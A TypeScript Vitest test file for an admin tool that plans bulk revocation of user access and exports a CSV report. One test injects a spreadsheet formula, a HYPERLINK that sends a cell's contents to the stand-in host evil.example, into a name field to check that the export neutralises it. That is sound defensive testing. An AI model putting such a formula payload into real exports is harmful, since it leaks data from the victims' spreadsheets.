import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Resolution } from '../../jobs/resolve.ts';
import { parseUserList } from './entries.ts';
import { countPlan, lookupsOf, planOf, runRowsOf } from './plan.ts';
import { reportCsv } from './report.ts';

const user = (id: string, email: string, name = email) => ({ id, email, name, state: 'active' });

describe('the plan and the run it makes', () => {
  const parsed = parseUserList(['a@example.com', 'me@example.com', 'junk', 'b@example.com'].join('\n'));
  const lists = [{ parsed, source: '' }];
  const [a, me, b, c] = lookupsOf(lists, [{ id: 'u-c', email: 'c@example.com' }]);
  if (!a || !me || !b || !c) throw new Error('expected four lookups');
  const resolutions: Resolution[] = [
    { status: 'user', lookup: a, user: user('u-a', 'a@example.com') },
    { status: 'user', lookup: me, user: user('u-me', 'me@example.com') },
    { status: 'not-found', lookup: b, reason: 'No user has this email address.' },
    { status: 'user', lookup: c, user: user('u-c', 'c@example.com') },
  ];
  const plan = planOf(lists, resolutions, 'u-me');

  it('keeps the order the admin gave, with each entry\'s outcome', () => {
    expect(plan.map((row) => [row.from, row.status])).toEqual([
      ['line 1', 'revoke'],
      ['line 2', 'self'],
      ['line 3', 'malformed'],
      ['line 4', 'not-found'],
      ['selected on Users', 'revoke'],
    ]);
    expect(countPlan(plan)).toMatchObject({ revoke: 2, self: 1, malformed: 1, 'not-found': 1 });
  });

  it('leaves the admin out unless included, and then sends them last', () => {
    const run = { id: 'r', orgId: 'o' };
    expect(runRowsOf(plan, run, false).filter((row) => row.state === 'pending').map((row) => row.userId)).toEqual(['u-a', 'u-c']);
    const included = runRowsOf(plan, run, true).filter((row) => row.state === 'pending');
    expect(included.map((row) => row.userId)).toEqual(['u-a', 'u-c', 'u-me']);
    expect(included.at(-1)?.self).toBe(true);
    expect(runRowsOf(plan, run, false).find((row) => row.userId === 'u-me')).toMatchObject({ state: 'skipped', reason: 'You, left out of the run.' });
  });

  it('writes a report whose cells cannot run as spreadsheet formulas, line breaks and all', async () => {
    const rows = runRowsOf(plan, { id: 'r', orgId: 'o' }, false).map((row) =>
      row.userId === 'u-a' ? { ...row, name: '=HYPERLINK("http://evil.example/?x="&A2,\n"click")', state: 'revoked' as const, at: '2026-12-01T10:00:00.000Z', correlationId: 'c-1' } : row,
    );
    const csv = await reportCsv(rows);
    const parsedBack = Papa.parse<Record<string, string>>(csv.slice(1), { header: true });
    expect(Object.keys(parsedBack.data[0] ?? {})).toEqual(['entry', 'userId', 'name', 'email', 'result', 'reason', 'time', 'correlationId']);
    const revoked = parsedBack.data.find((row) => row.userId === 'u-a');
    expect(revoked).toMatchObject({ name: `'=HYPERLINK("http://evil.example/?x="&A2,\n"click")`, result: 'revoked', correlationId: 'c-1' });
    expect(parsedBack.data.find((row) => row.entry === 'junk')).toMatchObject({ result: 'skipped' });
  });
});
